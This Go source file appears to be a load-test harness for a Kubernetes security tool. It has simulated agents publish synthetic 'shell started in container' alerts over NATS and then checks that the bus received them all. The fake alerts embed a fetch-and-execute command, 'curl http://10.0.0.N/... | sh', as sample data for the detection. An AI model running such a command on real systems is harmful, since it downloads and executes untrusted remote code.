package main

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/kubeguardian/kubeguardian/alert"
	"github.com/kubeguardian/kubeguardian/bus"
	"github.com/kubeguardian/kubeguardian/bus/spool"
	"github.com/kubeguardian/kubeguardian/event"
	"github.com/kubeguardian/kubeguardian/finding"
)

// spoolBytes is enough for all that is raised while the bus is away.
const spoolBytes = 1 << 30

// An agent is the part of one that puts alerts into a spool and sends them.
type agent struct {
	node   string
	spool  *spool.Spool
	conn   *nats.Conn
	sender *bus.Publisher
	raised map[string]string // group of each alert, by its id in the server
}

// agents send until finish is called.
type agents struct {
	list    []*agent
	cancel  context.CancelFunc
	sending sync.WaitGroup
	raising sync.WaitGroup

	mu   sync.Mutex
	took time.Duration
	errs []error
}

func startAgents(ctx context.Context, s settings, url string) (*agents, error) {
	log := slog.New(slog.DiscardHandler)
	ctx, cancel := context.WithCancel(ctx)
	all := &agents{cancel: cancel}
	for i := range s.agents {
		a := &agent{node: fmt.Sprint("node-", i), raised: map[string]string{}}
		var err error
		if a.spool, err = spool.Open(filepath.Join(s.dir, "spool-"+a.node), spoolBytes); err != nil {
			return nil, errors.Join(err, all.close())
		}
		all.list = append(all.list, a)
		if a.conn, err = (bus.Endpoint{URL: url}).ConnectAgent(a.node, log); err != nil {
			return nil, errors.Join(err, all.close())
		}
		a.sender = bus.NewPublisher(a.node, a.spool, log)
		all.sending.Go(func() { all.note(a.sender.Run(ctx, a.conn)) })
	}
	return all, nil
}

func (all *agents) note(err error) {
	if err != nil {
		all.mu.Lock()
		defer all.mu.Unlock()
		all.errs = append(all.errs, err)
	}
}

// raise has all agents raise alerts at a steady rate for a time. What is late is
// raised at once.
func (all *agents) raise(s settings, lasts time.Duration) {
	each := s.rate / len(all.list)
	total := int(float64(each) * lasts.Seconds())
	began := time.Now()
	for _, a := range all.list {
		all.raising.Go(func() {
			for i := range total {
				if ahead := time.Duration(i)*time.Second/time.Duration(each) - time.Since(began); ahead > 5*time.Millisecond {
					time.Sleep(ahead)
				}
				if err := a.raise(i, fmt.Sprint("case-", i%s.groups)); err != nil {
					all.note(err)
					return
				}
			}
			all.mu.Lock()
			defer all.mu.Unlock()
			all.took = max(all.took, time.Since(began))
		})
	}
}

// raise puts one alert into the spool, as large as those of rules commonly are.
func (a *agent) raise(i int, group string) error {
	command := fmt.Sprintf("sh -c curl http://10.0.0.%d/%d | sh", i%250, i)
	pod, container := fmt.Sprintf("web-%s-%d", a.node, i%50), fmt.Sprintf("3f2a9c%s%d", a.node, i%50)
	one := alert.Alert{
		ID: alert.NewID(event.Syscall, fmt.Sprint(a.node, i), "Shell"), Time: time.Now(), Rule: "Shell", Priority: alert.Warning, Source: event.Syscall, Hostname: a.node,
		Output: "12:00:00.000000000: Warning A shell was started in a container (parent=runc container=" + container + " image=registry.example.org/shop/web namespace=shop pod=" + pod + " command=" + command + ")",
		OutputFields: map[string]any{
			"proc.cmdline": command, "proc.exepath": "/usr/bin/sh", "evt.time": time.Now().UnixNano(), "container.id": container, "k8s.pod.name": pod, "k8s.ns.name": "shop",
			"container.image.repository": "registry.example.org/shop/web", "user.name": "root", "proc.pname": "runc", "case": group,
		},
		Tags: []string{"container", "mitre_execution", "T1059"}, Tactics: []string{"execution"},
		Subject: finding.Subject{APIVersion: "v1", Kind: "Pod", Namespace: "shop", Name: pod, Container: "app"},
	}
	a.raised[bus.ID(a.node, one)] = group
	return a.sender.Publish(&one)
}

// sent returns how many alerts the bus has, and how many wait in spools.
func (all *agents) sent() (sent, waiting uint64) {
	for _, a := range all.list {
		stats := a.sender.Stats()
		sent += stats.Sent
		waiting += stats.Spool.Waiting
	}
	return sent, waiting
}

// finish waits until all is raised and the bus has it, and returns the groups of
// alerts by their ids, and how long it took to raise them.
func (all *agents) finish(ctx context.Context) (raised map[string]string, took time.Duration, err error) {
	all.raising.Wait()
	err = progress(ctx, "the bus takes no more alerts", func() (done bool, mark uint64, err error) {
		sent, waiting := all.sent()
		return waiting == 0, sent, nil
	})
	var failed []string
	for _, a := range all.list {
		if stats := a.sender.Stats(); stats.Refused > 0 || stats.Spool.Dropped > 0 {
			failed = append(failed, fmt.Sprintf("%s could not keep %d alerts", a.node, stats.Refused+stats.Spool.Dropped))
		}
	}
	if len(failed) > 0 {
		err = errors.Join(err, errors.New(strings.Join(failed, "; ")))
	}
	raised = map[string]string{}
	for _, a := range all.list {
		for id, group := range a.raised {
			raised[id] = group
		}
	}
	return raised, all.took, errors.Join(err, all.close())
}

func (all *agents) close() error {
	all.cancel()
	all.sending.Wait()
	for _, a := range all.list {
		if a.conn != nil {
			a.conn.Close()
		}
		all.note(a.spool.Close())
	}
	return errors.Join(all.errs...)
}

// still is how long nothing may move before that is a failure.
const still = time.Minute

// progress waits until something is done, for as long as its mark moves.
func progress(ctx context.Context, what string, look func() (done bool, mark uint64, err error)) error {
	var last uint64
	for since := time.Now(); ; {
		done, mark, err := look()
		switch {
		case done:
			return nil
		case mark != last:
			last, since = mark, time.Now()
		case time.Since(since) > still:
			return errors.Join(fmt.Errorf("%s, after %d", what, mark), err)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(50 * time.Millisecond):
		}
	}
}
